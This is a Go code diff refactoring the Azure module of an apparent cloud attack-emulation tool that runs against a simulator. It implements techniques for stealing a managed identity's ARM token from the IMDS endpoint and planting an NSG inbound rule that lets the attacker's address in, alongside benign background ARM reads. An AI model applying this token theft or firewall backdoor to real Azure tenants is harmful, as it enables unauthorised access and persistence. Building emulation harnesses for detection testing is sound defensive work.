@@ -39,22 +39,15 @@ const azureARMAudience = "https://management.azure.com/"
 const labelStolenToken = "stolen-token"
 
 func init() {
-	Register(
+	registerVMAttack(vmAttack{Cloud: CloudAzure, Exploit: AzureExploitWebApp, Miner: AzureCryptoMiner, Steal: AzureStealMIToken,
+		KeepAccess: AzureKeepAccess,
 		// Autoscale's default scale-in policy removes the highest instance
 		// id first: the newest VM.
-		exploitWebApp(CloudAzure, AzureExploitWebApp, "newest"),
-		cryptoMiner(CloudAzure, AzureCryptoMiner),
-		stealHostCredential(CloudAzure, AzureStealMIToken, stealSpec{Operation: "imds:GetManagedIdentityToken",
-			Path: "/metadata/identity/oauth2/token", Label: labelStolenToken, Detail: map[string]string{"resource": azureARMAudience},
-			Description: "the managed identity's ARM token, from IMDS",
-			Use: func(ctx context.Context, env *Env, technique string, c *Credential) error {
-				return env.azureGetVM(ctx, technique, env.State.In(CloudAzure).Foothold, c)
-			},
-			Probe: azureTokenProbe}),
-		azureBackdoorNSG(),
-		keepAccess(CloudAzure, AzureKeepAccess),
-		routineAzure(),
-	)
+		FirstToScaleIn: "newest",
+		Metadata: stealSpec{Operation: "imds:GetManagedIdentityToken", Path: "/metadata/identity/oauth2/token",
+			Label: labelStolenToken, Detail: map[string]string{"resource": azureARMAudience},
+			Description: "the managed identity's ARM token, from IMDS", Use: (*Env).azureGetVM, Probe: azureTokenProbe},
+	}, azureBackdoorNSG(), routineAzure())
 }
 
 // bearer is an azcore credential that hands out one access token. Its
@@ -159,23 +152,11 @@ func listAssignments(ctx context.Context, opts *arm.ClientOptions, sub, scope st
 
 // azureBackdoorNSG uses the stolen token's Contributor role to add an
 // inbound rule for the attacker's address to the NSG in front of its
-// foothold: a way back in that survives the compromised VM (T1562.007,
-// Modify Cloud Firewall), and a backdoor_rule path.
+// foothold.
 func azureBackdoorNSG() *Technique {
-	return &Technique{
-		ID: AzureBackdoorNSG, ATTACK: "T1562.007", Name: "Impair Defenses: Disable or Modify Cloud Firewall", Cloud: CloudAzure,
-		Params: []ParamSpec{
-			{Name: "port", Kind: KindInt, Default: "22", Doc: "port opened to the attacker"},
-			{Name: "priority", Kind: KindInt, Default: "105", Doc: "rule priority (lower wins)"},
-		},
-		Run: func(ctx context.Context, env *Env, p Params) error {
-			hold := env.State.In(CloudAzure)
-			c := hold.Credential(labelStolenToken)
-			t, terr := env.Target(CloudAzure)
-			op := "Microsoft.Network/networkSecurityGroups/write"
-			if c == nil || terr != nil {
-				return env.Record(Action{Technique: AzureBackdoorNSG, Operation: op, Cloud: CloudAzure}, fmt.Errorf("no stolen token"))
-			}
+	return backdoorRule(CloudAzure, AzureBackdoorNSG, "Microsoft.Network/networkSecurityGroups/write",
+		[]ParamSpec{{Name: "priority", Kind: KindInt, Default: "105", Doc: "rule priority (lower wins)"}},
+		func(ctx context.Context, env *Env, t *Target, hold *Holding, c *Credential, p Params) (planted, error) {
 			nsgID := hold.Facts["network_security_group"]
 			rule := fmt.Sprintf("AllowMgmt-%s", env.ShortID())
 			rg := t.Prop("resource_group")
@@ -186,7 +167,7 @@ func azureBackdoorNSG() *Technique {
 			}
 			if rerr := env.Record(Action{Technique: AzureBackdoorNSG, Operation: "Microsoft.Network/networkSecurityGroups/read",
 				Resource: nsgID, Cloud: CloudAzure, Credential: c.Label}, err); rerr != nil {
-				return rerr
+				return planted{done: true}, rerr
 			}
 			nsg := cur.SecurityGroup
 			if nsg.Properties == nil {
@@ -203,46 +184,25 @@ func azureBackdoorNSG() *Technique {
 			// The simulator applies the PUT on the initial request and
 			// answers it terminal, so there is nothing to poll.
 			_, err = nsgs.BeginCreateOrUpdate(ctx, rg, armName(nsgID), nsg, nil)
-			if err == nil {
-				id := nsgID + "/securityRules/" + rule
-				env.State.Gain(&Path{Kind: BackdoorRule, Cloud: CloudAzure, Credential: "none", Resource: id,
-					Description: fmt.Sprintf("NSG rule %s letting %s/32 in on port %d", rule, env.SourceIP, p.Int("port")),
-					Probe:       backdoorProbe(CloudAzure, id, p.Int("port"))})
-			}
-			return env.Record(Action{Technique: AzureBackdoorNSG, Operation: op, Resource: nsgID, Cloud: CloudAzure,
-				Credential: c.Label, Detail: map[string]string{"rule": rule, "port": p.String("port"),
-					"source": env.SourceIP + "/32"}}, err)
-		},
-	}
+			return planted{rule: nsgID + "/securityRules/" + rule, what: "NSG rule " + rule, resource: nsgID,
+				detail: map[string]string{"rule": rule}}, err
+		})
 }
 
-// routineAzure is an application going about its day with its own token:
-// ARM reads of the web tier from its own address.
+// routineAzure is an application's ordinary ARM reads of the web tier.
 func routineAzure() *Technique {
-	return &Technique{
-		ID: AzureRoutineCalls, Name: "Routine ARM reads of an application", Cloud: CloudAzure, Legitimate: true,
-		Params: []ParamSpec{{Name: "calls", Kind: KindList, Required: true, Doc: "the calls each round makes, in order",
-			Values: []string{"Microsoft.Compute/virtualMachines/read", "Microsoft.Authorization/roleAssignments/read"}}},
-		Act: func(ctx context.Context, a *Actor, p Params, _ int) error {
-			opts := azureOptions(a.Clock, a.Target, a.Caller)
-			rg := a.Target.Prop("resource_group")
-			var first error
-			for _, call := range p.List("calls") {
-				var err error
-				switch call {
-				case "Microsoft.Compute/virtualMachines/read":
-					var vms *armcompute.VirtualMachinesClient
-					if vms, err = armcompute.NewVirtualMachinesClient(a.Target.Account, bearer{a.Credential.Token}, opts); err == nil {
-						_, err = vms.Get(ctx, rg, armName(a.groupMember()), nil)
-					}
-				case "Microsoft.Authorization/roleAssignments/read":
-					_, err = listAssignments(ctx, opts, a.Target.Account, "/subscriptions/"+a.Target.Account+"/resourceGroups/"+rg, a.Credential)
-				}
-				if err != nil && first == nil {
-					first = fmt.Errorf("%s as %s: %w", call, a.Principal, err)
-				}
+	return routine(CloudAzure, AzureRoutineCalls, "Routine ARM reads of an application", []routineCall{
+		{"Microsoft.Compute/virtualMachines/read", func(ctx context.Context, a *Actor, _ Params, _ int) error {
+			vms, err := armcompute.NewVirtualMachinesClient(a.Target.Account, bearer{a.Credential.Token}, azureOptions(a.Clock, a.Target, a.Caller))
+			if err == nil {
+				_, err = vms.Get(ctx, a.Target.Prop("resource_group"), armName(a.groupMember()), nil)
 			}
-			return first
-		},
-	}
+			return err
+		}},
+		{"Microsoft.Authorization/roleAssignments/read", func(ctx context.Context, a *Actor, _ Params, _ int) error {
+			_, err := listAssignments(ctx, azureOptions(a.Clock, a.Target, a.Caller), a.Target.Account,
+				"/subscriptions/"+a.Target.Account+"/resourceGroups/"+a.Target.Prop("resource_group"), a.Credential)
+			return err
+		}},
+	})
 }
